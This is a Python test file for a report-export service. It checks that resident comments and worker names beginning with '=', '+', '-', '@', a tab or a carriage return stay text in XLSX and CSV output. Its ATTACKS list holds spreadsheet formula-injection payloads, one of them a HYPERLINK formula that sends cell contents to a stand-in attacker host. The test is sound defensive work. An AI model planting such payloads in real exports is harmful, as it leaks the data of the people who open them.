"""Residents' and workers' words never become formulas in the exports: a
rating comment or a name that starts with "=", "+", "-", "@", a tab or a
carriage return is written as the text it is (XLSX) or marked as text (CSV)."""

from __future__ import annotations

import csv
import dataclasses
import io

from openpyxl import load_workbook

from bot.services import reports
from bot.services.l10n import translator
from bot.services.reports import xlsx as reports_xlsx
from tests.factories import SETTINGS
from tests.reports.world import AS_OF, make_report_world

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


async def _community_report(sessionmaker) -> reports.Report:  # type: ignore[no-untyped-def]
    async with sessionmaker() as s:
        w = await make_report_world(s)
        await s.commit()
        return await reports.build(s, SETTINGS, w.s1, "community", w.place.communities[0].id,
                                   "d20261101-20261130", "zh-Hans", AS_OF)


async def test_formulas_in_comments_and_names_stay_text(sessionmaker):
    report = await _community_report(sessionmaker)
    assert report.comments and report.by_worker and report.lines
    report = dataclasses.replace(
        report,
        comments=[dataclasses.replace(c, comment=ATTACKS[i % len(ATTACKS)]) for i, c in enumerate(report.comments)],
        by_worker=[dataclasses.replace(w, name=ATTACKS[i % len(ATTACKS)]) for i, w in enumerate(report.by_worker)],
        lines=[dataclasses.replace(c, worker=ATTACKS[i % len(ATTACKS)], category="=1+2")
               for i, c in enumerate(report.lines)],
    )
    _ = translator("zh-Hans")
    wb = load_workbook(io.BytesIO(reports_xlsx.workbook(report, _)))
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert {a for a in ATTACKS[:len(report.comments)]} <= texts  # kept as typed, not lost

    rows = list(csv.reader(io.StringIO(reports_xlsx.cases_csv(report.lines, _, SETTINGS.tz).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=1+2" in cells and "'" + ATTACKS[0] in cells


def test_numbers_and_ordinary_text_are_untouched():
    assert reports_xlsx.csv_safe(-3) == -3 and reports_xlsx.csv_safe(2.5) == 2.5
    assert reports_xlsx.csv_safe("王桂芝") == "王桂芝" and reports_xlsx.csv_safe("DC-2026-000001") == "DC-2026-000001"
    assert reports_xlsx.csv_safe("=A1") == "'=A1"
